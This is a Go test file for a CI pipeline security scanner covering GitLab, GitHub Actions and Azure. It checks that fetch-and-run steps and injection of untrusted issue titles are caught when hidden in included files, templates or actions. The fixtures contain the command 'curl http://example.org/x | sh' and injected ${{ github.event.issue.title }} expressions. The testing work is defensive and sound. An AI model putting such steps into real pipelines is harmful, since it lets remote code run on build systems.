package iac

import (
	"slices"
	"strings"
	"testing"
)

// What is executed from another file is executed all the same: a pipeline must not look
// clean because its steps were put elsewhere.
func TestWhatAPipelineTakesInIsJudged(t *testing.T) {
	const curl = "curl http://example.org/x | sh"
	const shell = "-- ci/x.yml --\na: {script: ['" + curl + "']}\n"
	gitlab := func(include, more string) string { return include + "\n" + more }
	inTable(t, "VP-GLC-003", ".gitlab-ci.yml", "", []pipelineCase{
		{"a file by its name", gitlab("include: ci/x.yml\n", shell), "medium a.script"},
		{"in a list", gitlab("include: [{local: /ci/x.yml}]\n", shell), "medium a.script"},
		{"by a pattern", gitlab("include: [{local: 'ci/*.yml'}]\n", shell), "medium a.script"},
		{"through folders", gitlab("include: [{local: '**/*.yml'}]\n", shell), "medium a.script"},
		{"by a variable", gitlab("include: [{local: '$DIR/x.yml'}]\n", shell), "medium a.script"},
		{"of what is included", gitlab("include: b.yml\n", "-- b.yml --\ninclude: ci/x.yml\n\n"+shell), "medium a.script"},
		{"as a pipeline of its own", gitlab("b: {trigger: {include: ci/x.yml}}\n", shell), "medium a.script"},
		{"only beside it", gitlab("b: {script: [make]}\n", shell), ""},
	})
	action := "-- src/a/action.yml --\nname: x\nruns: {using: composite, steps: [{run: '" + curl + "', shell: bash}]}\n"
	inTable(t, "VP-GHA-001", workflowPath, "", []pipelineCase{
		{"an action below a checkout", steps("issues", "    - uses: actions/checkout@v4\n      with: {path: here}\n    - uses: ./here/src/a\n      with: {t: '${{ github.event.issue.title }}'}\n\n") +
			strings.Replace(action, curl, "echo ${{ inputs.t }}", 1), "critical runs.steps[0]"},
		{"as Windows writes paths", steps("issues", "    - uses: .\\src\\a\n      with: {t: '${{ github.event.issue.title }}'}\n\n") +
			strings.Replace(action, curl, "echo ${{ inputs.t }}", 1), "critical runs.steps[0]"},
	})
	inTable(t, "VP-AZP-009", "azure-pipelines.yml", "", []pipelineCase{
		{"a template that the run chooses", "steps:\n- template: t/${{ parameters.x }}.yml\n\n-- t/a.yml --\nsteps: [{bash: '" + curl + "'}]\n", "medium steps[0]"},
		{"from the top of a project in a folder", "pool: x\nsteps: []\n\n-- sub/azure-pipelines.yml --\nsteps:\n- template: /t/a.yml\n\n-- sub/t/a.yml --\nsteps: [{bash: '" + curl + "'}]\n", "medium steps[0]"},
		{"given to another template", "steps:\n- template: t/a.yml\n  parameters: {template: b.yml}\n\n-- t/a.yml --\nparameters: {template: ''}\nsteps: [{template: '${{ parameters.template }}'}]\n\n-- b.yml --\nsteps: [{bash: '" + curl + "'}]\n", "medium steps[0]"},
	})
}

// A file that was not handed in was not judged, and what runs it is not clean.
func TestWhatIsExecutedAndNotHereIsAGap(t *testing.T) {
	for name, c := range map[string]struct {
		path, text   string
		absent, open int
	}{
		"a template":                     {"azure-pipelines.yml", "steps:\n- template: testdata/x.yml\n", 1, 0},
		"an action":                      {workflowPath, steps("push", "    - uses: ./testdata/a\n"), 1, 0},
		"a workflow":                     {workflowPath, "on: push\npermissions: {}\njobs: {a: {uses: ./.github/workflows/x.yml}}\n", 1, 0},
		"a file of GitLab":               {".gitlab-ci.yml", "include: [{local: node_modules/x.yml}]\n", 1, 0},
		"of another repository":          {"azure-pipelines.yml", "steps:\n- template: x.yml@t\n", 0, 1},
		"of this one, said aloud":        {"azure-pipelines.yml", "steps:\n- template: x.yml@Self\n", 1, 0},
		"an action of another checkout":  {workflowPath, steps("push", "    - uses: actions/checkout@v4\n      with: {repository: o/r, path: t}\n    - uses: ./t/a\n"), 0, 1},
		"a pipeline that a job writes":   {".gitlab-ci.yml", "b: {trigger: {include: [{artifact: x.yml, job: a}]}}\n", 0, 1},
		"an input that is called so":     {"azure-pipelines.yml", "steps:\n- task: X@1\n  inputs: {template: x.json}\n", 0, 0},
		"a parameter that is called so":  {"azure-pipelines.yml", "steps:\n- template: t.yml@t\n  parameters: {template: x.json}\n", 0, 1},
		"a pattern that matches nothing": {".gitlab-ci.yml", "include: [{local: 'ci/*.yml'}]\n", 0, 1},
	} {
		r := judged(t, c.path, c.text)
		if len(r.Absent) != c.absent || len(r.Open) != c.open {
			t.Errorf("%s: absent %+v, open %+v", name, r.Absent, r.Open)
		}
		for _, n := range r.Absent {
			if !n.Blocks || n.Path != c.path || !strings.Contains(n.Reason, "line ") {
				t.Errorf("%s: %+v", name, n)
			}
		}
	}
}

// What a pipeline of GitLab includes has any name, and has to be kept until it is met.
func TestIncludesOfGitLabAreKept(t *testing.T) {
	for _, text := range []string{"a: {script: [x]}", ".a:\n  tags: [x]\n", "include: x.yml", "a: {trigger: g/p}"} {
		if !testPipelines.Keeps(File{"ci/x.yml", []byte(text)}) {
			t.Errorf("%q is not kept", text)
		}
	}
	r := judged(t, ".gitlab-ci.yml", "include: ci/x.yml\n\n-- ci/x.yml --\na: {script: [x]}\n")
	if !slices.Equal(r.Judged, []string{".gitlab-ci.yml", "ci/x.yml"}) {
		t.Errorf("judged: %v", r.Judged)
	}
}
